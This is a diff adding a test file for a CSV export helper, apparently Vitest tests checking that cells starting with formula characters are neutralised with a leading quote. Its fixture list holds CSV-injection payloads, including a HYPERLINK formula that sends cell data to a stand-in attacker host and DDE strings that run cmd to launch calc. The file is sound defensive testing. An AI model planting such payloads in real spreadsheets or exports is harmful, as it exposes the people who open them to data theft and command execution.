@@ -1,0 +1,53 @@
+import { describe, expect, it } from "vitest";
+import { parseCsv } from "./parse-csv.ts";
+import { csvCell, isFormulaLike, toCsv } from "./write-csv.ts";
+
+// the review's cells (issue 36 item 13) and OWASP's other leading characters
+const NASTY = [
+  '=HYPERLINK("http://evil.test/?d="&A1,"click")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  "\uFF1D1+1",
+];
+
+describe("csvCell", () => {
+  it.each(NASTY)("neutralises %j: a leading quote, and quoted", (cell) => {
+    const out = csvCell(cell);
+    expect(out.startsWith(`"'`)).toBe(true);
+    expect(out.endsWith('"')).toBe(true);
+    // read back as CSV, the cell is the text with a quote in front: a spreadsheet shows it as text
+    expect(parseCsv(`h\r\n${out}\r\n`).rows[0][0]).toBe(`'${cell}`);
+  });
+
+  it.each([
+    ["-5", "-5"],
+    ["+3.5", "+3.5"],
+    ["-12%", "-12%"],
+    ["-1e3", "-1e3"],
+    ["Nora", "Nora"],
+    ["Berg, Jr.", '"Berg, Jr."'],
+    ['say "hi"', '"say ""hi"""'],
+    ["a = b", "a = b"],
+    ["", ""],
+  ])("writes %j as %j", (cell, out) => {
+    expect(csvCell(cell)).toBe(out);
+  });
+
+  it("writes numbers, booleans and nulls", () => {
+    expect([-5, true, null, undefined].map(csvCell)).toEqual(["-5", "true", "", ""]);
+  });
+
+  it("a whole export: every nasty cell neutralised, CRLF line ends", () => {
+    const csv = toCsv(
+      ["name", "note"],
+      NASTY.map((n) => [n, "ok"]),
+    );
+    const back = parseCsv(csv);
+    expect(back.rows.map((r) => r[0])).toEqual(NASTY.map((n) => `'${n}`));
+    expect(back.rows.every((r) => !isFormulaLike(r[0]))).toBe(true);
+    expect(csv.endsWith("\r\n")).toBe(true);
+  });
+});
